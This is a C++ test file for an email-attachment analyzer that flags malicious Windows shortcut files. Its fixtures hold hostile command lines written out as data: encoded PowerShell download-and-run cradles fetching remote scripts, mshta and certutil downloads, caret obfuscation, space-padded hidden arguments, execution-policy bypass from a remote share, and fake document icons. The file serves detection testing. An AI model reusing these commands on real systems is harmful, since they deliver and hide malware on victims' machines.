// lnk: shortcuts written by the test-side writer (src/objects/lnk/lnk_test_writer.h), attached
// as a mailer sends them: the command a shortcut runs, padding, document icons, remote targets,
// the web addresses of its arguments; and an ordinary shortcut to a document silent.
#include <gtest/gtest.h>

#include "analyzers/analyzer_harness.h"
#include "analyzers/attachment_message_test_support.h"
#include "objects/lnk/lnk_test_writer.h"

namespace vigie::analyzers {
namespace {

using objects::lnk::testing::ShortcutSpec;
using objects::lnk::testing::write_shortcut;
using testing::with_attachment;

const AnalyzerHarness& harness() {
  static const AnalyzerHarness h("lnk");
  return h;
}

const std::string kPowerShell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

TEST(LnkAnalyzerTest, PowerShellWithAnEncodedCommandInAHiddenWindow) {
  ShortcutSpec spec;
  spec.local_base_path = kPowerShell;
  spec.arguments = "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA";
  const auto run = harness().run(with_attachment("facture.pdf.lnk", write_shortcut(spec)));
  const Finding* f = AnalyzerHarness::find(run.findings, "LNK_COMMAND_EXECUTION");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->confidence, 1.0);
  ASSERT_EQ(f->evidence.size(), 4u);
  EXPECT_EQ(run.objects.at(f->evidence[0].object).filename, "facture.pdf.lnk");
  EXPECT_EQ(f->evidence[0].value, "PowerShell (T1059.001)");
  EXPECT_EQ(f->evidence[1].field, "command");
  EXPECT_EQ(f->evidence[1].value, kPowerShell + " -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
  EXPECT_EQ(f->evidence[2].field, "decoded_command");
  EXPECT_EQ(f->evidence[2].value, "IEX (New-Object");
  EXPECT_EQ(f->evidence[3].field, "suspicious");
  EXPECT_EQ(f->evidence[3].value, "a hidden window; an encoded PowerShell command; code run from a string (iex)");
  EXPECT_EQ(f->evidence[3].value_fr,
            "une fenêtre cachée ; une commande PowerShell encodée ; du code exécuté depuis une chaîne (iex)");
}

TEST(LnkAnalyzerTest, TheEncodedCommandIsDecodedAndItsAddressesJoinTheLinks) {
  // "iex (iwr https://cabinet.duckdns.org/a.ps1)" in UTF-16LE, base64.
  ShortcutSpec spec;
  spec.local_base_path = kPowerShell;
  spec.arguments =
      "-EncodedCommand aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGMAYQBiAGkAbgBlAHQALgBkAHUAYwBrAGQAbgBzAC4AbwByAGcA"
      "LwBhAC4AcABzADEAKQA=";
  const auto run = harness().run(with_attachment("a.lnk", write_shortcut(spec)));
  const Finding* f = AnalyzerHarness::find(run.findings, "LNK_COMMAND_EXECUTION");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.at(2).value, "iex (iwr https://cabinet.duckdns.org/a.ps1)");
  ASSERT_EQ(run.objects.urls().size(), 1u);
  EXPECT_EQ(run.objects.urls()[0].normalized(), "https://cabinet.duckdns.org/a.ps1");
}

TEST(LnkAnalyzerTest, DownloadCradlesAndTheirAddressesJoinTheLinks) {
  ShortcutSpec spec;
  spec.id_list = {"C:\\", "Windows", "System32", "cmd.exe"};
  spec.arguments = "/c start /min mshta https://203.0.113.9/doc.hta && certutil -urlcache -f http://198.51.100.2/a.exe a.exe";
  const auto run = harness().run(with_attachment("scan.lnk", write_shortcut(spec)));
  const Finding* f = AnalyzerHarness::find(run.findings, "LNK_COMMAND_EXECUTION");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence[0].value, "the command interpreter (cmd) (T1059.003)");
  EXPECT_EQ(f->evidence.at(2).value,
            "a download (certutil -urlcache); a web address; starts the HTML application host (mshta); starts certutil, "
            "used to download and decode files");
  ASSERT_EQ(run.objects.urls().size(), 2u);
  EXPECT_EQ(run.objects.urls()[0].normalized(), "https://203.0.113.9/doc.hta");
  EXPECT_EQ(run.objects.urls()[1].normalized(), "http://198.51.100.2/a.exe");
}

TEST(LnkAnalyzerTest, CaretsDoNotHideTheToolsFromUs) {
  ShortcutSpec spec;
  spec.local_base_path = "C:\\Windows\\System32\\cmd.exe";
  spec.arguments = "/c p^o^w^e^r^s^h^e^l^l -e^n^c SQBFAFgA";
  const auto findings = harness().analyze(with_attachment("a.lnk", write_shortcut(spec)));
  const Finding* f = AnalyzerHarness::find(findings, "LNK_COMMAND_EXECUTION");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.at(3).value,
            "words broken up with cmd escapes (^); an encoded PowerShell command; code run from a string (iex); "
            "starts PowerShell");
}

TEST(LnkAnalyzerTest, AScriptHostWithoutSuspiciousArgumentsIsLessSure) {
  ShortcutSpec spec;
  spec.environment_target = "%windir%\\System32\\wscript.exe";
  spec.arguments = "rapport.vbs";
  const auto findings = harness().analyze(with_attachment("rapport.lnk", write_shortcut(spec)));
  const Finding* f = AnalyzerHarness::find(findings, "LNK_COMMAND_EXECUTION");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->confidence, 0.6);
  EXPECT_EQ(f->evidence.size(), 2u);
}

TEST(LnkAnalyzerTest, ArgumentsPaddedPastWhatExplorerShows) {
  ShortcutSpec spec;
  spec.local_base_path = "C:\\Windows\\System32\\cmd.exe";
  spec.arguments = std::string(300, ' ') + "/c powershell -ep bypass -f \\\\203.0.113.4\\s\\a.ps1";
  const auto findings = harness().analyze(with_attachment("note.lnk", write_shortcut(spec)));
  const Finding* f = AnalyzerHarness::find(findings, "LNK_HIDDEN_ARGUMENTS");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.at(0).value, "349 characters of arguments, padded");
  EXPECT_EQ(f->evidence.at(1).value,
            "C:\\Windows\\System32\\cmd.exe [300 spaces]/c powershell -ep bypass -f \\\\203.0.113.4\\s\\a.ps1");
  const Finding* command = AnalyzerHarness::find(findings, "LNK_COMMAND_EXECUTION");
  ASSERT_NE(command, nullptr);
  EXPECT_NE(command->evidence.at(2).value.find("a path on a Windows share"), std::string::npos);
  // Line breaks hide a command as well as spaces do.
  spec.arguments = "/c echo ok\r\n\r\npowershell -enc SQBFAFgA";
  EXPECT_NE(AnalyzerHarness::find(harness().analyze(with_attachment("n.lnk", write_shortcut(spec))), "LNK_HIDDEN_ARGUMENTS"),
            nullptr);
}

TEST(LnkAnalyzerTest, ADocumentIconOnAShortcutToAProgram) {
  ShortcutSpec spec;
  spec.local_base_path = kPowerShell;
  spec.arguments = "-f x.ps1";
  spec.icon_location = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
  spec.icon_index = 11;
  const auto findings = harness().analyze(with_attachment("contrat.pdf.lnk", write_shortcut(spec)));
  const Finding* f = AnalyzerHarness::find(findings, "LNK_DOCUMENT_ICON");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.at(0).value, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe,11");
  EXPECT_EQ(f->evidence.at(1).value, kPowerShell);
}

TEST(LnkAnalyzerTest, TargetsAndIconsOnAShare) {
  ShortcutSpec spec;
  spec.net_name = "\\\\198.51.100.7@SSL\\DavWWWRoot";
  spec.path_suffix = "doc.exe";
  spec.icon_location = "\\\\198.51.100.7\\icons\\pdf.ico";
  const auto findings = harness().analyze(with_attachment("doc.lnk", write_shortcut(spec)));
  const Finding* f = AnalyzerHarness::find(findings, "LNK_REMOTE_TARGET");
  ASSERT_NE(f, nullptr);
  ASSERT_EQ(f->evidence.size(), 2u);
  EXPECT_EQ(f->evidence[0].field, "network_target");
  EXPECT_EQ(f->evidence[0].value, "\\\\198.51.100.7@SSL\\DavWWWRoot\\doc.exe");
  EXPECT_EQ(f->evidence[1].field, "icon");
}

TEST(LnkAnalyzerTest, AShortcutToADocumentIsSilentAndAnythingElseIgnored) {
  ShortcutSpec spec;
  spec.local_base_path = "C:\\Users\\agent\\Documents\\budget.xlsx";
  spec.working_dir = "C:\\Users\\agent\\Documents";
  const auto run = harness().run(with_attachment("budget.lnk", write_shortcut(spec)));
  EXPECT_TRUE(run.findings.empty());
  EXPECT_TRUE(run.objects.at(2).notes.empty());
  EXPECT_TRUE(harness().analyze(with_attachment("x.lnk", "L\0\0\0 not a shortcut")).empty());
}

}  // namespace
}  // namespace vigie::analyzers
